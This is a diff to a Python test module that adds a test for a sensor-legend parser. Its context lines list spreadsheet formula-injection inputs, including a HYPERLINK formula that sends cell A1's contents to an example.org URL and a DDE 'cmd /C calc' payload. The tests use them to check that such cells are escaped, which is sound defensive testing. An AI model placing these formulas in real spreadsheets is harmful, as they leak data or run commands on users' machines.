@@ -8,7 +8,7 @@ import io
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
-from mamol.core.text import figure, table_text
+from mamol.core.text import figure, sensors_named, table_text
 
 FORMULAS = ('=HYPERLINK("http://example.org/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", " =1+1", "\t=1+1",
             "\u00a0=1+1", "\uff1d1+1", "-", "=")  # fmt: skip
@@ -42,3 +42,8 @@ def test_every_other_text_comes_back_as_it_was(cells: list[str]) -> None:
         assert written == one_line or (
             written == "'" + one_line and one_line.strip()[0] in "=+-@\uff1d\uff0b\uff0d\uff20"
         )
+
+
+def test_sensors_and_their_bits_come_from_a_legend_of_patterns() -> None:
+    assert sensors_named({1: "SAR", 3: "SAR + DSM", 7: "SAR + DSM + S2"}) == {"SAR": 1, "DSM": 2, "S2": 4}
+    assert sensors_named({0: "none", 2: "a + b"}) == {}
